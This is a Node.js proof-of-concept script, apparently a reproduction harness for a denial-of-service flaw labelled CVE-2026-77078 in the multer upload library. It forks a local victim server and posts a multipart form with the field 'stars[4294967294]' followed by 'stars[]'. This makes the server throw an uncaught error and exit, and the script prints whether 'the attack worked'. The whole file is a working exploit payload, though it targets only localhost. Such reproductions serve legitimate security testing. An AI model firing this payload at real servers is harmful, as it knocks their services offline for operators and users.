'use strict';

// CVE-2026-77078: one field whose name holds the largest array index there is, and another that adds
// to the same array. multer's helper throws where nobody can catch it, and the server stops.
const { fork } = require('child_process');
const path = require('path');

const server = fork(path.join(__dirname, 'victim.js'), { silent: true });
const stopped = new Promise((resolve) => server.once('exit', (code) => resolve(code !== 0)));

server.once('message', async (port) => {
  const form = new FormData();
  form.append('stars[4294967294]', '5');
  form.append('stars[]', '5');
  fetch(`http://127.0.0.1:${port}/reviews/mug`, { method: 'POST', body: form }).catch(() => {});
  const crashed = await Promise.race([
    stopped,
    new Promise((resolve) => setTimeout(resolve, 1500, false)),
  ]);
  server.kill('SIGKILL');
  console.log(crashed ? 'the attack worked' : 'the attack did not work');
  process.exit(crashed ? 0 : 1);
});
